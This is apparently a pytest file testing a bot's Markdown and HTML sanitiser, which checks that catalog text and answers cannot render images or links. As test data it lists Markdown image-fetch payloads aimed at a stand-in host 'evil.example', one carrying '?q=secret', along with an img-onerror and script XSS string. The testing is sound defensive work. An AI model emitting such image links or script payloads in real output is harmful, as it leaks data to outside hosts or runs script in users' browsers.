from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from bot.surfaces.sanitize import escape_markdown, escape_markup, safe_markdown

REMOTE = "evil.example"
# Every way Markdown can make a browser fetch an image, as it might sit in a catalog clause.
IMAGE_SYNTAX = [
    f"a ![pixel](https://{REMOTE}/t.gif?q=secret) b",
    f"![x](//{REMOTE}/y.png)",
    f"![x](\\/\\/{REMOTE}/y.png)",
    f"![x]( <http://{REMOTE}/y.png> )",
    f"![x](data:image/png;base64,AA)",
    f"see ![logo][1]\n\n[1]: https://{REMOTE}/logo.png",
    f"![t]\n\n[t]: http://{REMOTE}/r.png",
    f"![t][]\n\n[t]: http://{REMOTE}/r.png",
    f"[![x](http://{REMOTE}/y.png)](http://{REMOTE}/)",
]


def rendered(markdown: str) -> str:
    """CommonMark's HTML for the text, as a browser's Markdown renderer would make it."""
    return MarkdownIt("commonmark").render(markdown)


def test_markup_is_escaped_not_removed() -> None:
    text = 'Hi <img src=x onerror="alert(1)"><script>alert(2)</script> & bye'
    escaped = escape_markup(text)
    assert "<" not in escaped and ">" not in escaped
    assert escaped == ('Hi &lt;img src=x onerror="alert(1)"&gt;&lt;script&gt;alert(2)&lt;/script&gt; &amp; bye')


@pytest.mark.parametrize("text", IMAGE_SYNTAX)
def test_no_image_syntax_survives_in_answer_text(text: str) -> None:
    assert "<img" not in rendered(safe_markdown(text))


@pytest.mark.parametrize("text", IMAGE_SYNTAX)
def test_catalog_text_is_shown_verbatim_and_loads_nothing(text: str) -> None:
    html = rendered(escape_markdown(text))
    assert "<img" not in html and "<a " not in html
    assert "![" in html  # shown as the text it is


def test_catalog_text_keeps_no_markdown_structure() -> None:
    text = "# 标题\n1. 列表 **粗体** `代码` <b>x</b> | a | b |\n> 引用 ~~删~~ [链接](http://x) _斜_"
    html = rendered(f"> {escape_markdown(text)}")
    for tag in ("<h1", "<ol", "<strong", "<code", "<b>", "<table", "<del", "<a ", "<em"):
        assert tag not in html
    assert html.count("<blockquote>") == 1 and "# 标题" in html


def test_ordinary_markdown_of_answers_survives() -> None:
    text = "**升级服务**：\n1. 方案制定\n- [官网](https://www.kingdee.com)"
    assert safe_markdown(text) == text


def test_catalog_quotes_inside_an_answer_are_escaped_completely() -> None:
    answer = "**包括。** 服务内容中有这一项：「上线切换。[点此](http://evil.example) # 标题 ![t]」\n\n[t]: http://evil.example/r.png"
    html = rendered(safe_markdown(answer))
    assert "<strong>包括。</strong>" in html
    assert "<img" not in html and "<a " not in html and "「上线切换。[点此](http://evil.example) # 标题 ![t]」" in html
